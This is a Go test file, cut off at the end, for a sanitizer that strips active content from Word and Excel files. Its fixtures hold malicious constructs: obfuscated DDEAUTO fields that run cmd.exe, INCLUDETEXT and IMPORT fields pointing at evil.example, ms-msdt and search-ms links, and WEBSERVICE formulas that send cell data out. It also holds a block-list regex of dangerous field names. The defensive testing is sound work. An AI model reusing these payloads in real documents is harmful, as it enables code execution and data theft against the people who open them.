package ooxml

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/xml"
	"errors"
	"io"
	"path"
	"regexp"
	"strings"
	"testing"

	"mugai/sanitize/archive"
	"mugai/sanitize/format"
)

const wNS = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`

const ctHead = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
	`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
	`<Default Extension="xml" ContentType="application/xml"/>`

func relEl(id, typ, target string) string {
	return `<Relationship Id="` + id + `" Type="` + relBase + typ + `" Target="` + target + `"/>`
}

// wordPkg builds a docx: body is the inside of w:body; parts adds or
// replaces parts; docRels are Relationship elements of document.xml;
// overrides are extra content-type entries.
func wordPkg(t testing.TB, body string, parts map[string]string, docRels, overrides string) []byte {
	all := map[string]string{
		"[Content_Types].xml":          ctHead + `<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>` + overrides + `</Types>`,
		"_rels/.rels":                  `<Relationships ` + relNS + `>` + relEl("rId1", "officeDocument", "word/document.xml") + `</Relationships>`,
		"word/document.xml":            `<?xml version="1.0"?><w:document ` + wNS + ` ` + rNS + `><w:body>` + body + `</w:body></w:document>`,
		"word/_rels/document.xml.rels": `<Relationships ` + relNS + `>` + docRels + `</Relationships>`,
	}
	for k, v := range parts {
		all[k] = v
	}
	return pkg(t, all)
}

// fld writes a complex field: instruction runs, then the result text.
func fld(result string, instr ...string) string {
	s := `<w:r><w:fldChar w:fldCharType="begin"/></w:r>`
	for _, i := range instr {
		s += `<w:r><w:instrText xml:space="preserve">` + i + `</w:instrText></w:r>`
	}
	return s + `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>` + result + `</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
}

// fldRaw is fld with raw markup between begin and separate.
func fldRaw(result, inner string) string {
	return `<w:r><w:fldChar w:fldCharType="begin"/></w:r>` + inner +
		`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>` + result + `</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
}

func para(s string) string { return `<w:p>` + s + `</w:p>` }

func part(root, s string) string {
	return `<?xml version="1.0"?><w:` + root + ` ` + wNS + ` ` + rNS + `>` + s + `</w:` + root + `>`
}

// activeLeft is the fuzz invariant, written apart from the disarmer: the
// names of everything active still in an output package.
func activeLeft(parts map[string]string) []string {
	var bad []string
	for name, data := range parts {
		n := strings.ToLower(name)
		switch {
		case strings.Contains(n, "vbaproject"), n == "xl/connections.xml", strings.HasPrefix(n, "xl/querytables/"),
			strings.HasPrefix(n, "xl/externallinks/"), strings.Contains(n, "/embeddings/"), strings.Contains(n, "/activex/"),
			strings.HasPrefix(n, "customxml/") && strings.Contains(data, "DataMashup"), n == "xl/workbook.bin":
			bad = append(bad, "part "+name)
		}
		if !strings.HasSuffix(n, ".xml") && !strings.HasSuffix(n, ".rels") {
			continue
		}
		d := xml.NewDecoder(strings.NewReader(data))
		type fs struct {
			instr    strings.Builder
			inResult bool
		}
		var open []*fs
		var inInstr bool
		for {
			tok, err := d.Token()
			if err != nil {
				break
			}
			switch t := tok.(type) {
			case xml.StartElement:
				inInstr = false
				switch t.Name.Local {
				case "Relationship":
					typ := strings.ToLower(attr(t, "Type"))
					if strings.EqualFold(attr(t, "TargetMode"), "External") {
						bad = append(bad, "external relationship in "+name)
					}
					for _, s := range []string{"/afchunk", "/connections", "/querytable", "/vbaproject", "/oleobject", "/externallink"} {
						if strings.HasSuffix(typ, s) {
							bad = append(bad, "relationship "+typ+" in "+name)
						}
					}
				case "altChunk":
					bad = append(bad, "altChunk in "+name)
				case "fldSimple":
					if w := badInstr(attr(t, "instr")); w != "" {
						bad = append(bad, "fldSimple "+w+" in "+name)
					}
				case "fldChar":
					switch attr(t, "fldCharType") {
					case "begin":
						if len(open) > 0 && !open[len(open)-1].inResult {
							bad = append(bad, "nested field in "+name)
						}
						open = append(open, &fs{})
					case "separate":
						if len(open) > 0 {
							open[len(open)-1].inResult = true
						}
					case "end":
						if len(open) > 0 {
							if w := badInstr(open[len(open)-1].instr.String()); w != "" {
								bad = append(bad, "field "+w+" in "+name)
							}
							open = open[:len(open)-1]
						}
					}
				case "instrText", "delInstrText":
					inInstr = true
				}
			case xml.EndElement:
				inInstr = false
			case xml.CharData:
				if inInstr && len(open) > 0 {
					open[len(open)-1].instr.Write(t)
				}
			}
		}
		for _, f := range open {
			if w := badInstr(f.instr.String()); w != "" {
				bad = append(bad, "unended field "+w+" in "+name)
			}
		}
	}
	return bad
}

var badWords = regexp.MustCompile(`(?i)(^|[^a-z0-9_])(DDE|DDEAUTO|INCLUDEPICTURE|INCLUDETEXT|LINK|QUOTE|IMPORT)($|[^a-z0-9_])`)
var linkTarget = regexp.MustCompile(`(?i)^\s*HYPERLINK\s+"?[^\\\s"]`)

func badInstr(s string) string {
	switch {
	case badWords.MatchString(s):
		return badWords.FindString(s)
	case linkTarget.MatchString(strings.TrimLeft(s, " \\\"")):
		return "HYPERLINK with a target"
	}
	return ""
}

// checkPackage asserts what Office needs to open a package without a
// repair prompt: every part has a content type, every override names a
// part, every internal relationship a part, every r: reference a
// relationship.
func checkPackage(t *testing.T, parts map[string]string) {
	t.Helper()
	lower := map[string]bool{}
	for n := range parts {
		lower[strings.ToLower(n)] = true
	}
	defaults, overrides := map[string]bool{}, map[string]bool{}
	_ = eachStart([]byte(parts["[Content_Types].xml"]), func(e xml.StartElement) error {
		switch e.Name.Local {
		case "Default":
			defaults[strings.ToLower(attr(e, "Extension"))] = true
		case "Override":
			pn := strings.ToLower(strings.TrimPrefix(attr(e, "PartName"), "/"))
			overrides[pn] = true
			if !lower[pn] {
				t.Errorf("content type override for missing part %s", pn)
			}
		}
		return nil
	})
	ids := map[string]map[string]bool{}
	for name, data := range parts {
		if name == "[Content_Types].xml" {
			continue
		}
		if ext := strings.TrimPrefix(strings.ToLower(path.Ext(name)), "."); !defaults[ext] && !overrides[strings.ToLower(name)] {
			t.Errorf("part %s has no content type", name)
		}
		if !strings.HasSuffix(name, ".rels") {
			continue
		}
		src := relsSource(name)
		set := map[string]bool{}
		err := eachStart([]byte(data), func(e xml.StartElement) error {
			if e.Name.Local == "Relationship" {
				set[attr(e, "Id")] = true
				if !lower[strings.ToLower(resolve(src, attr(e, "Target")))] {
					t.Errorf("%s: relationship %s points at missing %s", name, attr(e, "Id"), attr(e, "Target"))
				}
			}
			return nil
		})
		if err != nil {
			t.Errorf("%s: %v", name, err)
		}
		ids[src] = set
	}
	for name, data := range parts {
		if !strings.HasSuffix(name, ".xml") || name == "[Content_Types].xml" {
			continue
		}
		err := eachStart([]byte(data), func(e xml.StartElement) error {
			for _, a := range e.Attr {
				if a.Name.Space == "r" && !ids[name][a.Value] {
					t.Errorf("%s: <%s> refers to missing relationship %s", name, e.Name.Local, a.Value)
				}
			}
			return nil
		})
		if err != nil {
			t.Errorf("%s does not parse: %v", name, err)
		}
	}
}

type fieldCase struct {
	name    string
	body    string            // document.xml body
	parts   map[string]string // more parts
	rels    string
	ct      string
	removed string   // in the verdict's English notes
	gone    []string // not in any output part
	kept    []string // still in the named (or document) part
	in      string   // the part kept is checked in
}

func fieldCases() []fieldCase {
	hdrRel := relEl("rIdH", "header", "header1.xml")
	hdrCT := `<Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>`
	return []fieldCase{
		{name: "DDE split over five runs, odd spacing",
			body:    para(fld("42", "  d", "de", `AUTO c:\\Windows\\`, `system32\\cmd.exe `, ` "/k calc"`)),
			removed: whatDDE + " (1)", gone: []string{"instrText", "fldChar", "cmd.exe", "calc"}, kept: []string{"<w:t>42</w:t>"}},
		{name: "lower-case ddeauto", body: para(fld("x", `ddeauto "c:\\a.exe"`)), removed: whatDDE + " (1)", gone: []string{"ddeauto"}},
		{name: "quoted and backslashed names", body: para(fld("a", `"DDEAUTO" c:\\x y`)) + para(fld("b", `\DDE x y`)) + para(fld("c", "\t\u3000  Dde x y")),
			removed: whatDDE + " (3)", gone: []string{"DDE", "Dde"}, kept: []string{"<w:t>a</w:t>", "<w:t>b</w:t>", "<w:t>c</w:t>"}},
		{name: "a comment and CDATA inside the instruction", body: para(fldRaw("r", `<w:r><w:instrText>D<!-- x -->D<![CDATA[E]]> cmd "/c calc"</w:instrText></w:r>`)),
			removed: whatDDE + " (1)", gone: []string{"instrText", "calc"}},
		{name: "DDE built by a nested QUOTE", body: para(fldRaw("r", fld("DDE", "QUOTE 68 68 69")+`<w:r><w:instrText> "cmd" "/c calc"</w:instrText></w:r>`)),
			removed: whatOddField + " (1)", gone: []string{"QUOTE", "instrText", "fldChar", "calc", "<w:t>DDE</w:t>"}, kept: []string{"<w:t>r</w:t>"}},
		{name: "nested two levels deep", body: para(fldRaw("shown", `<w:r><w:instrText>IF 1 = 1 </w:instrText></w:r>`+fldRaw("mid", fld("DDEAUTO", "QUOTE 68 68 69 65 85 84 79")+`<w:r><w:instrText> x</w:instrText></w:r>`))),
			removed: whatOddField + " (1)", gone: []string{"QUOTE", "instrText", "fldChar", "mid"}, kept: []string{"<w:t>shown</w:t>"}},
		{name: "fldSimple INCLUDEPICTURE in a header", body: para(`<w:r><w:t>本文</w:t></w:r>`) + `<w:sectPr><w:headerReference w:type="default" r:id="rIdH"/></w:sectPr>`,
			parts: map[string]string{"word/header1.xml": part("hdr", para(`<w:fldSimple w:instr=" INCLUDEPICTURE &quot;\\\\server\\share\\a.png&quot; \d"><w:fldData>AAAA</w:fldData><w:r><w:t>ロゴ</w:t></w:r></w:fldSimple>`))},
			rels:  hdrRel, ct: hdrCT, removed: whatInclude + " (1)", gone: []string{"fldSimple", "server", "fldData"}, kept: []string{"<w:r><w:t>ロゴ</w:t></w:r>"}, in: "word/header1.xml"},
		{name: "INCLUDETEXT in a footnote", body: para(`<w:r><w:t>a</w:t></w:r>`),
			parts: map[string]string{"word/footnotes.xml": part("footnotes", `<w:footnote w:id="1">`+para(fld("引用", `INCLUDETEXT "http://evil.example/x.docx"`))+`</w:footnote>`)},
			rels:  relEl("rIdF", "footnotes", "footnotes.xml"), ct: `<Override PartName="/word/footnotes.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"/>`,
			removed: whatInclude + " (1)", gone: []string{"INCLUDETEXT", "evil"}, kept: []string{"引用"}, in: "word/footnotes.xml"},
		{name: "LINK in a comment", body: para(`<w:r><w:t>a</w:t></w:r>`),
			parts: map[string]string{"word/comments.xml": part("comments", `<w:comment w:id="0">`+para(fld("表", `LINK Excel.Sheet.12 "\\\\host\\s\\b.xlsx" "Sheet1!R1C1" \a`))+`</w:comment>`)},
			rels:  relEl("rIdC", "comments", "comments.xml"), ct: `<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/>`,
			removed: whatInclude + " (1)", gone: []string{"LINK", "host"}, kept: []string{"表"}, in: "word/comments.xml"},
		{name: "DDE in the glossary document", body: para(`<w:r><w:t>a</w:t></w:r>`),
			parts: map[string]string{"word/glossary/document.xml": part("glossaryDocument", para(fld("g", `DDEAUTO cmd "/c calc"`)))},
			rels:  relEl("rIdG", "glossaryDocument", "glossary/document.xml"), ct: `<Override PartName="/word/glossary/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml"/>`,
			removed: whatDDE + " (1)", gone: []string{"DDEAUTO"}, kept: []string{"<w:t>g</w:t>"}, in: "word/glossary/document.xml"},
		{name: "HYPERLINK to a UNC share", body: para(fld("資料", `HYPERLINK "\\\\server\\share\\a.lnk"`)), removed: whatOddLink + " (1)", gone: []string{"server", "HYPERLINK"}, kept: []string{"資料"}},
		{name: "HYPERLINK search-ms, file: and ms-msdt", body: para(fld("a", `HYPERLINK "search-ms:query=invoice&amp;crumb=location:\\\\h\\s"`)) + para(fld("b", `HYPERLINK file:///C:/x.exe`)) + para(`<w:fldSimple w:instr="HYPERLINK ms-msdt:/id PCWDiagnostic"><w:r><w:t>c</w:t></w:r></w:fldSimple>`),
			removed: whatOddLink + " (3)", gone: []string{"search-ms", "file:", "ms-msdt"}, kept: []string{"<w:t>a</w:t>", "<w:t>b</w:t>", "<w:t>c</w:t>"}},
		{name: "HYPERLINK to the web goes like a web link; a bookmark jump stays", body: para(fld("市", `HYPERLINK "https://city.example.lg.jp/"`)) + para(fld("目次へ", `HYPERLINK \l "_Toc1" \h`)),
			removed: whatWebLink + " (1)", gone: []string{"city.example"}, kept: []string{`HYPERLINK \l "_Toc1" \h`, "目次へ"}},
		{name: "safe fields are left alone", body: para(fld("1", " PAGE ")) + para(fld("目次", `TOC \o "1-3" \h \z \u`)) + para(`<w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>3</w:t></w:r></w:fldSimple>`) + para(fld("6", "= 2 * 3")),
			removed: "Nothing active", kept: []string{" PAGE ", `TOC \o "1-3"`, `<w:fldSimple w:instr=" NUMPAGES ">`, "= 2 * 3"}},
		{name: "a PAGE field in a text box of a footer stays", body: para(`<w:r><w:t>a</w:t></w:r>`) + `<w:sectPr><w:footerReference w:type="default" r:id="rIdH"/></w:sectPr>`,
			parts: map[string]string{"word/footer1.xml": part("ftr", para(`<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent>`+para(fld("1", "PAGE"))+`</w:txbxContent></v:textbox></v:shape></w:pict></w:r>`))},
			rels:  relEl("rIdH", "footer", "footer1.xml"), ct: `<Override PartName="/word/footer1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml"/>`,
			removed: "Nothing active", kept: []string{"PAGE", "fldChar"}, in: "word/footer1.xml"},
		{name: "a field across paragraphs", body: `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "\\\\h\\s\\a.docx"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>一</w:t></w:r></w:p><w:p><w:r><w:t>二</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
			removed: whatInclude + " (1)", gone: []string{"fldChar", "INCLUDETEXT"}, kept: []string{"<w:t>一</w:t></w:r></w:p><w:p><w:r><w:t>二</w:t>"}},
		{name: "an unended field", body: para(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r>`) + para(`<w:r><w:instrText> DDEAUTO x y</w:instrText></w:r>`),
			removed: whatDDE + " (1)", gone: []string{"fldChar", "instrText"}},
		{name: "text runs inside an instruction", body: para(fldRaw("r", `<w:r><w:t>DDEAUTO</w:t></w:r><w:r><w:instrText> PAGE</w:instrText></w:r>`)),
			removed: whatOddField + " (1)", gone: []string{"DDEAUTO", "fldChar"}, kept: []string{"<w:t>r</w:t>"}},
		{name: "an instruction split over mc:AlternateContent branches", body: para(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="w14"><w:r><w:instrText>PAGE</w:instrText></w:r></mc:Choice><mc:Fallback><w:r><w:instrText>HYPERLINK "file:///c:/x.exe"</w:instrText></w:r></mc:Fallback></mc:AlternateContent><w:r><w:fldChar w:fldCharType="end"/></w:r>`),
			removed: whatOddField + " (1)", gone: []string{"file:", "fldChar"}},
		{name: "a deleted instruction (tracked change)", body: para(fldRaw("r", `<w:del w:id="1" w:author="a" w:date="2026-01-01T00:00:00Z"><w:r><w:delInstrText>INCLUDETEXT "\\\\h\\s"</w:delInstrText></w:r></w:del><w:r><w:instrText>PAGE</w:instrText></w:r>`)),
			removed: whatOddField + " (1)", gone: []string{"INCLUDETEXT", "delInstrText"}},
		{name: "a stray separator and instruction", body: para(`<w:r><w:instrText>DDE x y</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>t</w:t></w:r>`),
			gone: []string{"DDE", "fldChar"}, kept: []string{"<w:t>t</w:t>"}},
		{name: "IMPORT and QUOTE alone", body: para(fld("i", `IMPORT "http://h/x.wmf"`)) + para(fld("q", `QUOTE "text"`)),
			removed: whatInclude + " (1)", gone: []string{"IMPORT", "QUOTE"}},
	}
}

func TestDisarmFields(t *testing.T) {
	for _, c := range fieldCases() {
		t.Run(c.name, func(t *testing.T) {
			parts, v := disarm(t, wordPkg(t, c.body, c.parts, c.rels, c.ct), "a.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
			checkPackage(t, parts)
			if bad := activeLeft(parts); len(bad) > 0 {
				t.Errorf("left: %v", bad)
			}
			for name, data := range parts {
				if !strings.HasPrefix(name, "word/") || strings.Contains(name, "_rels") {
					continue
				}
				for _, g := range c.gone {
					if strings.Contains(data, g) {
						t.Errorf("%s still holds %q:\n%s", name, g, data)
					}
				}
			}
			in := c.in
			if in == "" {
				in = "word/document.xml"
			}
			for _, k := range c.kept {
				if !strings.Contains(parts[in], k) {
					t.Errorf("%s lost %q:\n%s", in, k, parts[in])
				}
			}
			if got := v.EN(); c.removed != "" && !strings.Contains(got, c.removed) {
				t.Errorf("removed %q, want %q", got, c.removed)
			}
		})
	}
}

func TestDisarmAltChunk(t *testing.T) {
	in := wordPkg(t, para(`<w:r><w:t>前</w:t></w:r>`)+`<w:altChunk r:id="rIdA"/>`+para(`<w:r><w:t>後</w:t></w:r>`)+`<w:altChunk r:id="rIdB"/>`,
		map[string]string{
			"word/afchunk.mht":             "MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<object classid=x>",
			"word/afchunk2.rtf":            `{\rtf1{\object\objemb{\*\objdata 0105}}}`,
			"word/_rels/afchunk2.rtf.rels": `<Relationships ` + relNS + `>` + relEl("rId1", "image", "media/p.png") + `</Relationships>`,
			"word/media/p.png":             "PNG",
		},
		`<Relationship Id="rIdA" Type="`+relBase+`aFChunk" Target="afchunk.mht"/><Relationship Id="rIdB" Type="`+relBase+`aFChunk" Target="/word/afchunk2.rtf"/>`,
		`<Default Extension="mht" ContentType="message/rfc822"/><Default Extension="png" ContentType="image/png"/><Override PartName="/word/afchunk2.rtf" ContentType="application/rtf"/>`)
	parts, v := disarm(t, in, "a.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
	checkPackage(t, parts)
	for _, gone := range []string{"word/afchunk.mht", "word/afchunk2.rtf", "word/_rels/afchunk2.rtf.rels", "word/media/p.png"} {
		if _, ok := parts[gone]; ok {
			t.Errorf("%s survived", gone)
		}
	}
	if doc := parts["word/document.xml"]; strings.Contains(doc, "altChunk") || !strings.Contains(doc, "前") || !strings.Contains(doc, "後") {
		t.Errorf("document: %s", doc)
	}
	if ct := parts["[Content_Types].xml"]; strings.Contains(ct, "mht") || strings.Contains(ct, "rtf") || strings.Contains(ct, `"png"`) {
		t.Errorf("content types: %s", ct)
	}
	if strings.Contains(parts["word/_rels/document.xml.rels"], "aFChunk") {
		t.Error("aFChunk relationship survived")
	}
	if got := v.EN(); !strings.Contains(got, whatAltChunk+" (2)") {
		t.Errorf("removed %q", got)
	}
}

// xlsxData is a workbook holding every kind of external data Excel has.
func xlsxData(t testing.TB) []byte {
	return pkg(t, map[string]string{
		"[Content_Types].xml": ctHead + `<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>` +
			`<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/>` +
			`<Override PartName="/xl/queryTables/queryTable1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml"/>` +
			`<Override PartName="/xl/tables/table1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml"/>` +
			`<Override PartName="/xl/pivotCache/pivotCacheDefinition1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml"/>` +
			`<Override PartName="/xl/pivotCache/pivotCacheDefinition2.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml"/>` +
			`<Override PartName="/xl/pivotCache/pivotCacheRecords1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheRecords+xml"/>` +
			`<Override PartName="/xl/pivotTables/pivotTable1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.pivotTable+xml"/>` +
			`<Override PartName="/xl/pivotTables/pivotTable2.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.pivotTable+xml"/>` +
			`<Override PartName="/customXml/itemProps1.xml" ContentType="application/vnd.openxmlformats-officedocument.customXmlProperties+xml"/>` +
			`<Override PartName="/xl/model/item.data" ContentType="application/vnd.openxmlformats-officedocument.model+data"/></Types>`,
		"_rels/.rels": `<Relationships ` + relNS + `>` + relEl("rId1", "officeDocument", "xl/workbook.xml") + `</Relationships>`,
		"xl/workbook.xml": `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ` + rNS + `><sheets><sheet name="データ" sheetId="1" r:id="rId1"/></sheets>` +
			`<definedNames><definedName name="ExternalData_1" localSheetId="0">Sheet1!$A$1:$B$3</definedName></definedNames>` +
			`<pivotCaches><pivotCache cacheId="1" r:id="rId5"/><pivotCache cacheId="2" r:id="rId8"/></pivotCaches>` +
			`<extLst><ext uri="{FCE2AD5D-F65C-4FA6-A056-5C36A1767C68}" xmlns:x15="x15"><x15:dataModel><x15:modelTables><x15:modelTable id="Q" name="Q" connection="Query - Q"/></x15:modelTables></x15:dataModel></ext></extLst></workbook>`,
		"xl/_rels/workbook.xml.rels": `<Relationships ` + relNS + `>` + relEl("rId1", "worksheet", "worksheets/sheet1.xml") + relEl("rId2", "connections", "connections.xml") +
			relEl("rId4", "customXml", "../customXml/item1.xml") + relEl("rId5", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml") +
			relEl("rId8", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition2.xml") +
			`<Relationship Id="rId6" Type="http://schemas.microsoft.com/office/2007/relationships/powerPivotData" Target="model/item.data"/></Relationships>`,
		"xl/connections.xml": `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="web" type="4" refreshOnLoad="1"><webPr url="http://evil.example/q.iqy"/></connection>` +
			`<connection id="2" name="Query - Q" type="5" refreshOnLoad="1"><dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Q" command="SELECT * FROM [Q]"/></connection></connections>`,
		"xl/worksheets/sheet1.xml": `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ` + rNS + `><sheetData><row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example/?"&amp;B1)</f><v>0</v></c>` +
			`<c r="B1" t="str"><f>HYPERLINK("file://h/s/x.exe","開く")</f><v>開く</v></c><c r="C1"><f>SUM(1,2)</f><v>3</v></c></row></sheetData>` +
			`<tableParts count="1"><tablePart r:id="rId1"/></tableParts></worksheet>`,
		"xl/worksheets/_rels/sheet1.xml.rels": `<Relationships ` + relNS + `>` + relEl("rId1", "table", "../tables/table1.xml") + relEl("rId2", "pivotTable", "../pivotTables/pivotTable1.xml") + relEl("rId3", "pivotTable", "../pivotTables/pivotTable2.xml") + `</Relationships>`,
		"xl/tables/table1.xml": `<table xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" id="1" name="T" ref="A1:B3" tableType="queryTable" connectionId="1" totalsRowShown="0">` +
			`<tableColumns count="1"><tableColumn id="1" uniqueName="1" name="A" queryTableFieldId="1"/></tableColumns></table>`,
		"xl/tables/_rels/table1.xml.rels":                    `<Relationships ` + relNS + `>` + relEl("rId1", "queryTable", "../queryTables/queryTable1.xml") + `</Relationships>`,
		"xl/queryTables/queryTable1.xml":                     `<queryTable xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" name="q" connectionId="1" refreshOnLoad="1"/>`,
		"xl/pivotCache/pivotCacheDefinition1.xml":            `<pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ` + rNS + ` r:id="rId1" refreshOnLoad="1"><cacheSource type="external" connectionId="2"/></pivotCacheDefinition>`,
		"xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels": `<Relationships ` + relNS + `>` + relEl("rId1", "pivotCacheRecords", "pivotCacheRecords1.xml") + `</Relationships>`,
		"xl/pivotCache/pivotCacheRecords1.xml":               `<pivotCacheRecords/>`,
		"xl/pivotCache/pivotCacheDefinition2.xml":            `<pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cacheSource type="worksheet"><worksheetSource ref="A1:C3" sheet="データ"/></cacheSource></pivotCacheDefinition>`,
		"xl/pivotTables/pivotTable1.xml":                     `<pivotTableDefinition cacheId="1"/>`,
		"xl/pivotTables/_rels/pivotTable1.xml.rels":          `<Relationships ` + relNS + `>` + relEl("rId1", "pivotCacheDefinition", "../pivotCache/pivotCacheDefinition1.xml") + `</Relationships>`,
		"xl/pivotTables/pivotTable2.xml":                     `<pivotTableDefinition cacheId="2"/>`,
		"xl/pivotTables/_rels/pivotTable2.xml.rels":          `<Relationships ` + relNS + `>` + relEl("rId1", "pivotCacheDefinition", "../pivotCache/pivotCacheDefinition2.xml") + `</Relationships>`,
		"customXml/item1.xml":                                `<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAAAA==</DataMashup>`,
		"customXml/_rels/item1.xml.rels":                     `<Relationships ` + relNS + `>` + relEl("rId1", "customXmlProps", "itemProps1.xml") + `</Relationships>`,
		"customXml/itemProps1.xml":                           `<ds:datastoreItem xmlns:ds="ds" ds:itemID="{1}"/>`,
		"xl/model/item.data":                                 "ABF-MODEL",
	})
}

func TestDisarmSpreadsheetData(t *testing.T) {
	parts, v := disarm(t, xlsxData(t), "a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
	// Excel writes the Power Query item in UTF-16.
	u16 := []byte{0xFF, 0xFE}
	for _, c := range `<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>` {
		u16 = append(u16, byte(c), 0)
	}
	if what, ok := activeContent(&archive.Member{Name: "customXml/item2.xml", Data: u16}); !ok || what != whatPowerQuery {
		t.Error("a UTF-16 DataMashup item is not found")
	}
	checkPackage(t, parts)
	if bad := activeLeft(parts); len(bad) > 0 {
		t.Errorf("left: %v", bad)
	}
	for _, gone := range []string{"xl/connections.xml", "xl/queryTables/queryTable1.xml", "customXml/item1.xml", "customXml/itemProps1.xml",
		"customXml/_rels/item1.xml.rels", "xl/pivotCache/pivotCacheDefinition1.xml", "xl/pivotCache/pivotCacheRecords1.xml", "xl/pivotTables/pivotTable1.xml", "xl/model/item.data"} {
		if _, ok := parts[gone]; ok {
			t.Errorf("%s survived", gone)
		}
	}
	for _, kept := range []string{"xl/pivotCache/pivotCacheDefinition2.xml", "xl/pivotTables/pivotTable2.xml", "xl/tables/table1.xml"} {
		if _, ok := parts[kept]; !ok {
			t.Errorf("%s was removed", kept)
		}
	}
	wb := parts["xl/workbook.xml"]
	if strings.Contains(wb, `r:id="rId5"`) || !strings.Contains(wb, `<pivotCache cacheId="2" r:id="rId8"/>`) || strings.Contains(wb, "dataModel") ||
		!strings.Contains(wb, "ExternalData_1") || !strings.Contains(wb, "<sheet ") {
		t.Errorf("workbook: %s", wb)
	}
	if tb := parts["xl/tables/table1.xml"]; strings.Contains(tb, "connectionId") || strings.Contains(tb, "queryTable") || !strings.Contains(tb, `name="A"`) {
		t.Errorf("table: %s", tb)
	}
	sh := parts["xl/worksheets/sheet1.xml"]
	if strings.Contains(sh, "WEBSERVICE") || strings.Contains(sh, "HYPERLINK") || !strings.Contains(sh, "<f>SUM(1,2)</f>") || !strings.Contains(sh, "<v>開く</v>") {
		t.Errorf("sheet: %s", sh)
	}
	if ct := parts["[Content_Types].xml"]; strings.Contains(ct, "connections") || strings.Contains(ct, "queryTable") || strings.Contains(ct, "model") || strings.Contains(ct, "itemProps") {
		t.Errorf("content types: %s", ct)
	}
	got := v.EN()
	for _, want := range []string{whatData, whatPowerQuery, whatFormula + " (2)"} {
		if !strings.Contains(got, want) {
			t.Errorf("removed %q lacks %q", got, want)
		}
	}
	// A workbook whose only pivot cache goes loses the empty <pivotCaches>.
	one := strings.Replace(parts["xl/workbook.xml"], `<pivotCache cacheId="2" r:id="rId8"/>`, "", 1)
	if out, err := dropEmpty([]byte(one), "pivotCaches"); err != nil || strings.Contains(string(out), "pivotCaches") {
		t.Errorf("empty pivotCaches kept: %s %v", out, err)
	}
}

func TestRefuseXLSB(t *testing.T) {
	xlsb := pkg(t, map[string]string{
		"[Content_Types].xml": ctHead + `<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>`,
		"_rels/.rels":         `<Relationships ` + relNS + `>` + relEl("rId1", "officeDocument", "xl/workbook.bin") + `</Relationships>`,
		"xl/workbook.bin":     "\x83\x01\x00",
		"xl/workbook.xml":     `<workbook/>`, // a decoy does not make it an xlsx
	})
	for _, s := range []format.Sanitizer{&Disarmer{}, &Extractor{}} {
		var out bytes.Buffer
		_, err := s.Sanitize(context.Background(), format.Part{Filename: "a.xlsb", SniffedType: "application/vnd.ms-excel.sheet.macroenabled.12"}, bytes.NewReader(xlsb), &out)
		if !errors.Is(err, errBinary) || out.Len() != 0 {
			t.Errorf("%s took the xlsb: %v, %d bytes", s.Name(), err, out.Len())
		}
	}
	for _, typ := range Types {
